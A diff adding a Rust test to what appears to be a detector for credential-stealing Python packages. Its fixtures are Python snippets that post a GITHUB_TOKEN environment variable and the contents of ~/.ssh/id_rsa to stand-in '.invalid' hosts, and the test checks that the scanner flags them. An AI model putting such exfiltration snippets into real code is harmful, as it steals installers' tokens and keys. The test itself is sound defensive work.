@@ -382,6 +382,26 @@ mod tests {
     }
 
     #[test]
+    fn conditional_boolean_awaited_and_starred_values_carry_their_sources() {
+        for sent in [
+            "token or os.environ['GITHUB_TOKEN']",
+            "os.environ['GITHUB_TOKEN'] if os.name == 'posix' else ''",
+            "{*[os.environ['GITHUB_TOKEN']]}",
+            "(t := os.environ['GITHUB_TOKEN'])",
+        ] {
+            let code = format!(
+                "import os, requests\ntoken = None\nrequests.post('https://x.invalid/t', data={sent})\n"
+            );
+            assert!(
+                max_severity("p-1/setup.py", &code, "WH200") >= 0.85,
+                "{sent}"
+            );
+        }
+        let awaited = "import os, aiohttp, asyncio\nasync def read_key():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://x.invalid/k', data=await read_key())\nasyncio.run(go())\n";
+        assert!(max_severity("p-1/pkg/__init__.py", awaited, "WH200") >= 0.5);
+    }
+
+    #[test]
     fn data_a_branch_gathered_still_flows_after_another_branch_assigns_clean_data() {
         let code = "import os, platform, requests\nif platform.system() == 'Linux':\n    data = {'user': os.getlogin(), 'host': os.uname()}\nelse:\n    data = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
         assert!(max_severity("p-1/setup.py", code, "WH200") >= 0.5);
